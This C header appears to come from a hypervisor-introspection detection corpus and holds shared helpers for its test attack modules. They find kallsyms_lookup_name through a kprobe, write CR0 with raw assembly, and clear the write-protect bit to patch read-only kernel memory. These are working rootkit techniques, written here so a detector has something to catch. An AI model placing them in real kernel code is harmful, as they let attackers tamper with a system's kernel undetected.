/* SPDX-License-Identifier: GPL-2.0 */
/*
 * hvi detection corpus — shared helpers of the attack modules (test-only code).
 *
 * 6.1 does not export kallsyms_lookup_name; its address is obtained by registering a kprobe on
 * it (the kprobe core resolves the name) and reading kp.addr back. CR0 is written with a raw
 * `mov` because native_write_cr0() re-pins CR0.WP.
 */
#ifndef HVI_ATTACK_COMMON_H
#define HVI_ATTACK_COMMON_H

#include <linux/kprobes.h>
#include <linux/kernel.h>

typedef unsigned long (*hvi_lookup_fn)(const char *name);

static inline unsigned long hvi_attack_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	hvi_lookup_fn fn;

	if (register_kprobe(&kp) < 0)
		return 0;
	fn = (hvi_lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return fn ? fn(name) : 0;
}

static inline unsigned long hvi_attack_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void hvi_attack_write_cr0_raw(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/* Write `len` bytes at a read-only kernel address with CR0.WP cleared on this CPU. */
static inline void hvi_attack_poke_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = hvi_attack_read_cr0();
	hvi_attack_write_cr0_raw(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, len);
	hvi_attack_write_cr0_raw(cr0);
	local_irq_restore(flags);
}

#endif
